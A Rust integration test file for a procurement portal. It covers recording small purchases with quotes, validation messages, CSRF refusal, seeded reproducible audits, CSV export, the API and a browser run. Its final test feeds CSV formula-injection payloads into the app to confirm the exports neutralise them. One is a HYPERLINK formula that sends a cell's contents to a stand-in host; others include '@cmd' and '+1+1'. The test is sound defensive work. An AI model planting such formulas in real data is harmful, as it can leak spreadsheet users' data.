//! Small purchases in the portal: recording with quotes, the engine's
//! verdict on the page, bad input refused field by field with nothing
//! saved, reproducible audits, the CSV export and the API.

use axum::http::StatusCode;
use socval_core::quotes;
use socval_store::{Actor, AuditQuery, NewPurchase, Purchase, PurchaseQuote, QuoteLocation, Store};

use crate::support::{World, world};

/// The fields of a purchase form with two quotes.
fn form<'a>(reference: &'a str, loc1: &'a str, loc2: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        ("reference", reference),
        ("description", "Printing of the residents' newsletter"),
        ("value", "£4,850.00"),
        ("purchase_date", "2026-01-10"),
        ("justification", ""),
        ("supplier_1", "Borchester Print Ltd"),
        ("postcode_1", "zz1 4ab"),
        ("amount_1", "4850"),
        ("location_1", loc1),
        ("supplier_2", "Felpersham Press"),
        ("postcode_2", ""),
        ("amount_2", "5,120.50"),
        ("location_2", loc2),
        ("supplier_3", ""),
        ("postcode_3", ""),
        ("amount_3", ""),
        ("location_3", ""),
    ]
}

fn set<'a>(f: &mut [(&'a str, &'a str)], key: &str, value: &'a str) {
    f.iter_mut().find(|(k, _)| *k == key).unwrap().1 = value;
}

async fn purchase_rows(w: &World) -> usize {
    w.store.purchases(w.org_a).await.unwrap().len()
}

async fn audit_rows(store: &dyn Store, entity: &str) -> Vec<socval_store::AuditEntry> {
    store
        .audit(&AuditQuery {
            limit: 10_000,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.entity_type == entity)
        .collect()
}

#[tokio::test]
async fn an_officer_records_a_purchase_and_sees_the_engines_verdict() {
    let w = world().await;
    let officer = w.session(w.officer).await;
    let r = w
        .post_form(
            "/orgs/a/purchases",
            &officer,
            &form("PO-1001", "local", "outside"),
        )
        .await;
    r.assert_status(StatusCode::SEE_OTHER);
    let page = w.get(r.location(), Some(&officer)).await;
    page.assert_status(StatusCode::OK);
    assert!(
        page.body.contains("Purchase PO-1001 saved."),
        "{}",
        page.body
    );
    assert!(page.body.contains("<h2>Compliant</h2>"), "{}", page.body);
    assert!(page.body.contains("£4,850.00") && page.body.contains("£5,120.50"));
    assert!(page.body.contains("ZZ1 4AB"), "the postcode is tidied");
    let rows = audit_rows(&*w.store, "purchase").await;
    let last = rows.last().unwrap();
    assert_eq!(last.actor, "officer@a.example");
    assert!(last.after.as_deref().unwrap().contains("PO-1001"));

    // Two regional quotes and no reason: the engine's own reason is shown.
    let mut f = form("PO-1002", "region", "region");
    let r = w.post_form("/orgs/a/purchases", &officer, &f).await;
    r.assert_status(StatusCode::SEE_OTHER);
    let page = w.get(r.location(), Some(&officer)).await;
    assert!(page.body.contains("Not compliant"), "{}", page.body);
    assert!(
        page.body.contains(
            "no quote from a local supplier, and no justification recorded for using a regional one"
        ),
        "{}",
        page.body
    );
    // Recording the reason makes it compliant: the edit is audited.
    let id = r
        .location()
        .split('/')
        .nth(4)
        .unwrap()
        .split('?')
        .next()
        .unwrap()
        .to_owned();
    let edit = w
        .get(&format!("/orgs/a/purchases/{id}/edit"), Some(&officer))
        .await;
    edit.assert_status(StatusCode::OK);
    assert!(edit.body.contains("value=\"PO-1002\""));
    set(
        &mut f,
        "justification",
        "No supplier in the district prints on recycled board",
    );
    let r = w
        .post_form(&format!("/orgs/a/purchases/{id}"), &officer, &f)
        .await;
    r.assert_status(StatusCode::SEE_OTHER);
    let page = w.get(r.location(), Some(&officer)).await;
    assert!(page.body.contains("<h2>Compliant</h2>"), "{}", page.body);
    let rows = audit_rows(&*w.store, "purchase").await;
    assert_eq!(
        rows.last().unwrap().action,
        socval_store::AuditAction::Update
    );

    // The list shows both with their verdicts; a viewer reads it.
    let viewer = w.session(w.viewer).await;
    let list = w.get("/orgs/a/purchases", Some(&viewer)).await;
    list.assert_status(StatusCode::OK);
    assert!(list.body.contains("PO-1001") && list.body.contains("PO-1002"));
    assert!(
        list.body
            .contains("<strong>3</strong> purchases: <strong>3</strong> compliant"),
        "{}",
        list.body
    );
    assert!(
        !list.body.contains("Record a small purchase"),
        "viewers are not offered the form"
    );
}

#[tokio::test]
async fn bad_input_is_refused_on_its_field_and_nothing_changes() {
    let w = world().await;
    let officer = w.session(w.officer).await;
    let before = (
        purchase_rows(&w).await,
        w.store.audit_count(None).await.unwrap(),
    );
    let cases: Vec<(&str, &str, &str, &str)> = vec![
        ("value", "25000", "value", "Value must be under £25,000.00"),
        (
            "value",
            "lots",
            "value",
            "Value must be an amount in pounds",
        ),
        ("value", "10.005", "value", "at most 2 decimal places"),
        ("value", "-5", "value", "Value must be more than £0"),
        (
            "amount_2",
            "0",
            "amount_2",
            "Quote 2: amount must be more than £0",
        ),
        (
            "amount_1",
            "",
            "amount_1",
            "Quote 1: enter the amount quoted",
        ),
        (
            "location_2",
            "nearby",
            "location_2",
            "Quote 2: select where the supplier is",
        ),
        (
            "postcode_1",
            "not a postcode",
            "postcode_1",
            "Quote 1: postcode must be a UK postcode",
        ),
        (
            "purchase_date",
            "2026-02-30",
            "purchase_date",
            "must be a real date",
        ),
        (
            "purchase_date",
            "2027-01-01",
            "purchase_date",
            "today or in the past",
        ),
        (
            "purchase_date",
            "0001-01-01",
            "purchase_date",
            "from 1990 onwards",
        ),
        (
            "reference",
            " ",
            "reference",
            "Enter the purchase&#39;s reference",
        ),
        (
            "supplier_2",
            "",
            "supplier_2",
            "Quote 2: enter the supplier&#39;s name",
        ),
    ];
    for (field, value, id, message) in cases {
        let mut f = form("PO-2001", "local", "region");
        set(&mut f, field, value);
        let r = w.post_form("/orgs/a/purchases", &officer, &f).await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{field}={value:?}"
        );
        assert!(r.body.contains("There is a problem"), "{field}");
        assert!(
            r.body.contains(&format!("href=\"#{id}\"")) && r.body.contains(message),
            "{field}={value:?}: want {message:?} linked to #{id}\n{}",
            r.body
        );
        assert!(r.body.contains("<title>Error: "), "{field}");
        // What was entered is kept on the form.
        assert!(r.body.contains("value=\"PO-2001\"") || field == "reference");
    }
    // No quote at all.
    let mut f = form("PO-2001", "local", "region");
    for k in [
        "supplier_1",
        "amount_1",
        "location_1",
        "postcode_1",
        "supplier_2",
        "amount_2",
        "location_2",
    ] {
        set(&mut f, k, "");
    }
    let r = w.post_form("/orgs/a/purchases", &officer, &f).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("Enter at least one quote"));
    // Without the CSRF token: refused.
    let r = w
        .post_raw(
            "/orgs/a/purchases",
            Some(&officer.cookie),
            &form("PO-2002", "local", "region"),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(
        (
            purchase_rows(&w).await,
            w.store.audit_count(None).await.unwrap()
        ),
        before,
        "nothing was saved or audited"
    );
    // A reference already used (in another case).
    let r = w
        .post_form(
            "/orgs/a/purchases",
            &officer,
            &form("sp-fixture", "local", "region"),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body
            .contains("A purchase with reference sp-fixture already exists"),
        "{}",
        r.body
    );
    assert_eq!(purchase_rows(&w).await, before.0);
}

/// Ten purchases of `a`: P-00..P-09; every third has a single quote.
async fn population(w: &World) -> Vec<Purchase> {
    let cli = Actor::system("test");
    let mut out = Vec::new();
    for i in 0..10 {
        let mut quotes = vec![PurchaseQuote {
            supplier: format!("Local {i}"),
            postcode: String::new(),
            amount_pence: 100_000 + i,
            location: QuoteLocation::Local,
        }];
        if i % 3 != 0 {
            quotes.push(PurchaseQuote {
                supplier: format!("Other {i}"),
                postcode: String::new(),
                amount_pence: 110_000,
                location: QuoteLocation::Outside,
            });
        }
        let new = NewPurchase {
            org_id: w.org_a,
            reference: format!("P-{i:02}"),
            description: "Stationery".into(),
            value_pence: 100_000 + i,
            purchase_date: time::macros::date!(2025 - 11 - 01),
            justification: String::new(),
            quotes,
        };
        out.push(
            w.store
                .create_purchase(&cli, w.clock_now(), &new)
                .await
                .unwrap(),
        );
    }
    out
}

fn sample_on_page(body: &str) -> Vec<String> {
    // Each sampled purchase links to its page: `/orgs/a/purchases/ID">REF</a>`.
    body.split("href=\"/orgs/a/purchases/")
        .skip(1)
        .filter_map(|rest| {
            let (id, after) = rest.split_once("\">")?;
            id.bytes().all(|b| b.is_ascii_digit()).then_some(())?;
            Some(after.split("</a>").next()?.to_owned())
        })
        .collect()
}

#[tokio::test]
async fn audits_draw_the_same_sample_from_the_same_seed_as_the_engine() {
    let w = world().await;
    population(&w).await;
    let officer = w.session(w.officer).await;
    let draw = async |seed: &str, size: &str, year: &str| {
        w.post_form(
            "/orgs/a/purchase-audits",
            &officer,
            &[("seed", seed), ("size", size), ("year", year)],
        )
        .await
    };
    let r = draw("2021", "5", "2025/26").await;
    r.assert_status(StatusCode::SEE_OTHER);
    let first = w.get(r.location(), Some(&officer)).await;
    first.assert_status(StatusCode::OK);
    let sample = sample_on_page(&first.body);
    assert_eq!(sample.len(), 5, "{}", first.body);

    // The engine, given the same purchases, seed and size, draws the same.
    // (All of `a`'s purchases were made in 2025/26: the ten and the fixture.)
    let all = w.store.purchases(w.org_a).await.unwrap();
    let org = w.store.organisation(w.org_a).await.unwrap();
    let policy = socval_core::Policy {
        quotes_threshold_gbp: socval_core::Gbp::from_pence(org.small_purchase_threshold_pence),
        ..Default::default()
    };
    let checks = socval_app::engine::purchase_checks(&all, &policy);
    let engine = quotes::audit(&checks, 2021, 5, policy.assurance, "test").unwrap();
    let engine_refs: Vec<String> = engine
        .sample
        .iter()
        .map(|c| c.purchase_id.clone())
        .collect();
    assert_eq!(sample, engine_refs);
    let opinion = match engine.opinion {
        quotes::Opinion::Substantial => "Substantial assurance",
        quotes::Opinion::Reasonable => "Reasonable assurance",
        quotes::Opinion::Limited => "Limited assurance",
        quotes::Opinion::NoAssurance => "No assurance",
    };
    assert!(
        first.body.contains(&format!("<h2>{opinion}</h2>")),
        "{}",
        first.body
    );
    assert!(first.body.contains("<code id=\"seed\">2021</code>"));
    assert!(
        first
            .body
            .contains("11 purchases under £25,000.00 made in 2025/26"),
        "{}",
        first.body
    );

    // Again with the same seed: the same sample, recorded as a new audit.
    let again = w
        .get(
            draw("2021", "5", "2025/26").await.location(),
            Some(&officer),
        )
        .await;
    assert_eq!(sample_on_page(&again.body), sample);
    let other = w
        .get(
            draw("2022", "5", "2025/26").await.location(),
            Some(&officer),
        )
        .await;
    assert_ne!(
        sample_on_page(&other.body),
        sample,
        "another seed, another sample"
    );
    let audits = w.store.purchase_audits(w.org_a).await.unwrap();
    assert_eq!(audits.len(), 4, "three drawn and the fixture's");
    assert_eq!(audit_rows(&*w.store, "purchase_audit").await.len(), 5);

    // Bad requests record nothing and say which field.
    for (seed, size, year, field, message) in [
        ("abc", "5", "", "seed", "Seed must be a whole number"),
        ("-1", "5", "", "seed", "Seed must be a whole number"),
        (
            "1",
            "0",
            "",
            "size",
            "Sample size must be a whole number from 1 to 1000",
        ),
        (
            "1",
            "5",
            "2030",
            "year",
            "Financial year must be written like 2025/26",
        ),
        (
            "1",
            "5",
            "2019/20",
            "year",
            "There are no purchases under £25,000.00 made in 2019/20",
        ),
    ] {
        let r = draw(seed, size, year).await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{seed} {size} {year}"
        );
        assert!(
            r.body.contains(&format!("href=\"#{field}\"")) && r.body.contains(message),
            "{message}\n{}",
            r.body
        );
    }
    assert_eq!(w.store.purchase_audits(w.org_a).await.unwrap().len(), 4);

    // The list shows them; viewers read but are not offered the form.
    let viewer = w.session(w.viewer).await;
    let list = w.get("/orgs/a/purchase-audits", Some(&viewer)).await;
    list.assert_status(StatusCode::OK);
    assert!(list.body.contains("2021") && list.body.contains("2022"));
    assert!(!list.body.contains("Draw the sample"));
}

#[tokio::test]
async fn the_csv_export_reads_back_into_the_engine_with_the_same_verdicts() {
    let w = world().await;
    population(&w).await;
    let viewer = w.session(w.viewer).await;
    let r = w.get("/orgs/a/purchases.csv", Some(&viewer)).await;
    r.assert_status(StatusCode::OK);
    assert_eq!(
        r.headers.get("content-type").unwrap(),
        "text/csv; charset=utf-8"
    );
    let mut reader = csv::Reader::from_reader(r.body.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        &headers[..6],
        [
            "purchase_id",
            "purchase_value_gbp",
            "supplier",
            "supplier_location",
            "amount_gbp",
            "justification"
        ]
    );
    let mut records = socval_core::Records::new("export.csv", headers.clone());
    let mut verdicts = std::collections::BTreeMap::new();
    for (i, row) in reader.records().enumerate() {
        let row = row.unwrap();
        verdicts.insert(row[0].to_owned(), row[9].to_owned());
        records.push(i as u64 + 2, row.iter().map(str::to_owned).collect());
    }
    let quotes = quotes::quotes_from_records(&records).expect("the export is a quotes file");
    let checks = quotes::check(&quotes, &socval_core::Policy::default());
    assert_eq!(checks.len(), 11, "ten and the fixture");
    for c in checks {
        let want = if c.compliant { "yes" } else { "no" };
        assert_eq!(verdicts[&c.purchase_id], want, "{}", c.purchase_id);
    }
    assert_eq!(verdicts["P-03"], "no");
    assert_eq!(verdicts["P-04"], "yes");
}

#[tokio::test]
async fn the_api_records_lists_and_audits_purchases() {
    let w = world().await;
    let body = serde_json::json!({
        "reference": "API-1",
        "description": "Grounds maintenance",
        "value_gbp": "12345.67",
        "purchase_date": "2026-01-02",
        "quotes": [
            {"supplier": "Ambridge Gardens", "postcode": "ZZ3 1AA", "amount": "12345.67", "location": "local"},
            {"supplier": "Loxley Landscapes", "amount": "13000", "location": "region"}
        ]
    });
    let post = |json: serde_json::Value, token: &str, path: &str| {
        let req = axum::http::Request::builder()
            .method("POST")
            .uri(path.to_owned())
            .header("authorization", format!("Bearer {token}"))
            .header("content-type", "application/json")
            .body(axum::body::Body::from(json.to_string()))
            .unwrap();
        w.send(req)
    };
    let r = post(body.clone(), &w.token_officer, "/api/v1/orgs/a/purchases").await;
    r.assert_status(StatusCode::CREATED);
    let j = r.json();
    assert_eq!(j["value_gbp"], "12345.67");
    assert_eq!(j["compliant"], true);
    assert_eq!(j["quotes"][1]["amount_gbp"], "13000.00");
    let id = j["id"].as_i64().unwrap();

    let r = w
        .get_bearer(&format!("/api/v1/orgs/a/purchases/{id}"), &w.token_viewer)
        .await;
    r.assert_status(StatusCode::OK);
    assert_eq!(r.json()["reference"], "API-1");
    let list = w
        .get_bearer("/api/v1/orgs/a/purchases", &w.token_viewer)
        .await
        .json();
    assert_eq!(list.as_array().unwrap().len(), 2);

    // Bad input: every problem with its field, nothing saved.
    let mut bad = body.clone();
    bad["reference"] = "API-2".into();
    bad["value_gbp"] = "30000".into();
    bad["quotes"][1]["location"] = "somewhere".into();
    let r = post(bad, &w.token_officer, "/api/v1/orgs/a/purchases").await;
    r.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    let fields: Vec<String> = r.json()["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["field"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(fields, ["value_gbp", "quotes[1].location"]);
    assert_eq!(w.store.purchases(w.org_a).await.unwrap().len(), 2);
    // A viewer token may not record.
    let r = post(body, &w.token_viewer, "/api/v1/orgs/a/purchases").await;
    r.assert_status(StatusCode::FORBIDDEN);

    let r = post(
        serde_json::json!({"seed": "7", "size": "10"}),
        &w.token_officer,
        "/api/v1/orgs/a/purchase-audits",
    )
    .await;
    r.assert_status(StatusCode::CREATED);
    let a = r.json();
    assert_eq!(a["seed"], 7);
    assert_eq!(a["population"], 2);
    assert_eq!(a["compliance_percent"], "100");
    assert_eq!(a["opinion"], "substantial");
    let got = w
        .get_bearer(
            &format!("/api/v1/orgs/a/purchase-audits/{}", a["id"]),
            &w.token_viewer,
        )
        .await;
    assert_eq!(got.json()["sample"].as_array().unwrap().len(), 2);

    let doc = w.get("/api/v1/openapi.json", None).await.json();
    for path in [
        "/api/v1/orgs/{org}/purchases",
        "/api/v1/orgs/{org}/purchases/{purchase}",
        "/api/v1/orgs/{org}/purchase-audits",
        "/api/v1/orgs/{org}/purchase-audits/{audit}",
    ] {
        assert!(
            doc["paths"][path].is_object(),
            "{path} missing from the OpenAPI document"
        );
    }
    assert!(doc["components"]["schemas"]["ApiPurchase"].is_object());
}

/// In headless Chromium: an officer records a purchase (a mistake first),
/// sees the verdict, draws an audit and draws it again with the same seed.
/// Screenshots go to `target/artefacts/purchases/` (not under `web/`,
/// which the other browser test clears when it starts).
#[test]
#[ignore = "needs chromium: run by .ci/run"]
fn browser_records_a_small_purchase_and_draws_a_reproducible_audit() {
    use crate::webdriver::Browser;
    let chromium = std::env::var("SOCVAL_CHROMIUM").expect(
        "SOCVAL_CHROMIUM must name the Chromium binary (.ci/run sets it: SOCVAL_CHROMIUM=$(command -v chromium))",
    );
    let chromedriver = std::env::var("SOCVAL_CHROMEDRIVER").unwrap_or_else(|_| {
        let beside = std::path::Path::new(&chromium).with_file_name("chromedriver");
        if beside.exists() {
            beside.display().to_string()
        } else {
            "chromedriver".to_owned()
        }
    });
    let out =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/artefacts/purchases");
    let _ = std::fs::remove_dir_all(&out);
    let rt = tokio::runtime::Runtime::new().unwrap();
    let w = rt.block_on(world());
    rt.block_on(population(&w));
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let app = w.app.clone();
    rt.spawn(async move { axum::serve(listener, app).await });
    let b = Browser::start(&chromium, &chromedriver);
    let shot = |name: &str| {
        b.fit_page();
        b.screenshot(&out.join(format!("{name}.png")));
    };

    b.goto(&format!("{base}/orgs/a/purchases/new"));
    b.find("#email").type_text("officer@a.example");
    b.find("#password").type_text(crate::support::PASSWORD);
    b.find("button.button").click();
    b.wait_url("/orgs/a/purchases/new");
    assert!(!b.url().contains("login"), "{}", b.url());
    b.find("#reference").type_text("PO-7001");
    b.find("#description")
        .type_text("Repairs to the community centre roof");
    b.find("#value").type_text("30,000");
    b.find("#supplier_1").type_text("Felpersham Roofing");
    b.find("#postcode_1").type_text("zz1 4ab");
    b.find("#amount_1").type_text("29,500");
    b.find("#location_1").type_text("Local");
    b.find("#supplier_2").type_text("Westshire Roofing");
    b.find("#amount_2").type_text("31000");
    b.find("form[action$=purchases] button.button").click();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !b.title().starts_with("Error: ") {
        assert!(
            std::time::Instant::now() < deadline,
            "no error page: {}",
            b.title()
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let text = b.text();
    assert!(
        text.contains("Value must be under £25,000.00")
            && text.contains("Quote 2: select where the supplier is"),
        "{text}"
    );
    assert_eq!(
        b.find("#reference").attribute("value"),
        "PO-7001",
        "what was typed is kept"
    );
    shot("01-purchase-errors");

    // Fix both: the page keeps everything else.
    b.find("#value").type_text("\u{e009}a\u{e000}24500");
    b.find("#location_2").type_text("Outside");
    b.find("form[action$=purchases] button.button").click();
    b.wait_url("saved=1");
    let text = b.text();
    assert!(
        text.contains("Purchase PO-7001 saved.")
            && text.contains("Compliant")
            && text.contains("ZZ1 4AB"),
        "{text}"
    );
    shot("02-purchase-saved");

    b.goto(&format!("{base}/orgs/a/purchases"));
    assert!(b.text().contains("PO-7001"));
    shot("03-purchases");

    b.goto(&format!("{base}/orgs/a/purchase-audits"));
    let seed = b.find("#seed").attribute("value");
    assert_eq!(seed.len(), 6, "a six-digit seed is suggested: {seed}");
    b.find("#size").type_text("\u{e009}a\u{e000}5");
    b.find("form[action$=purchase-audits] button.button")
        .click();
    b.wait_url("/orgs/a/purchase-audits/");
    let first_url = b.url();
    let first = b.text();
    assert!(first.contains(&seed), "{first}");
    shot("04-audit");
    let sample = |text: &str| -> String {
        text.split("The sample, in the order drawn")
            .nth(1)
            .and_then(|t| t.split("The sample shows").next())
            .unwrap_or_default()
            .to_owned()
    };
    b.find("form[action$=purchase-audits] button.button")
        .click();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while b.url() == first_url {
        assert!(std::time::Instant::now() < deadline, "no second audit");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    b.wait_url("/orgs/a/purchase-audits/");
    let again = b.text();
    assert!(again.contains(&seed), "{again}");
    assert_eq!(
        sample(&again),
        sample(&first),
        "the same seed draws the same sample"
    );
    shot("05-audit-again");
    drop(b);
    let audits = rt.block_on(w.store.purchase_audits(w.org_a)).unwrap();
    assert_eq!(
        audits.len(),
        3,
        "two drawn in the browser and the fixture's"
    );
    assert_eq!(audits[0].items, audits[1].items);
    for n in [
        "01-purchase-errors",
        "02-purchase-saved",
        "04-audit",
        "05-audit-again",
    ] {
        assert!(out.join(format!("{n}.png")).exists());
    }
}

/// What people type reaches the CSV exports as text, never as a formula a
/// spreadsheet would run; amounts stay numbers (issue 12, item 6).
#[tokio::test]
async fn csv_exports_carry_no_formulas() {
    let w = world().await;
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Acme\")";
    let body = serde_json::json!({
        "reference": "+1+1",
        "description": "@SUM(A1:A9)",
        "value_gbp": "12.50",
        "purchase_date": "2026-01-02",
        "quotes": [
            {"supplier": formula, "postcode": "ZZ3 1AA", "amount": "12.50", "location": "local"},
            {"supplier": "-1+1", "amount": "13", "location": "region"}
        ]
    });
    let req = axum::http::Request::builder()
        .method("POST")
        .uri("/api/v1/orgs/a/purchases")
        .header("authorization", format!("Bearer {}", w.token_officer))
        .header("content-type", "application/json")
        .body(axum::body::Body::from(body.to_string()))
        .unwrap();
    w.send(req).await.assert_status(StatusCode::CREATED);
    // A contract whose reference is a formula, for the dashboard.
    crate::support::delivery_fixture(
        &*w.store,
        w._dir.path(),
        w.org_a,
        w.supplier_1,
        w.framework_a,
        "@cmd",
        crate::support::start_time(),
    )
    .await;
    let admin = w.session(w.admin).await;
    let cells = |body: &str| -> Vec<String> {
        let mut rd = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(body.as_bytes());
        rd.records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    };
    let purchases = cells(&w.get("/orgs/a/purchases.csv", Some(&admin)).await.body);
    let dashboard = cells(
        &w.get("/orgs/a/dashboard.csv?table=contracts", Some(&admin))
            .await
            .body,
    );
    let audit = cells(&w.get("/orgs/a/audit.csv", Some(&admin)).await.body);
    for (what, cells) in [
        ("purchases", &purchases),
        ("dashboard", &dashboard),
        ("audit", &audit),
    ] {
        let bad: Vec<&String> = cells
            .iter()
            .filter(|c| c.starts_with(['=', '+', '@']) || c.starts_with("-1+"))
            .collect();
        assert!(bad.is_empty(), "{what}: {bad:?}");
    }
    for want in [
        format!("'{formula}"),
        "'+1+1".into(),
        "'@SUM(A1:A9)".into(),
        "'-1+1".into(),
        "12.50".into(),
    ] {
        assert!(purchases.contains(&want), "{want} in {purchases:?}");
    }
    assert!(dashboard.contains(&"'@cmd".to_string()), "{dashboard:?}");
}
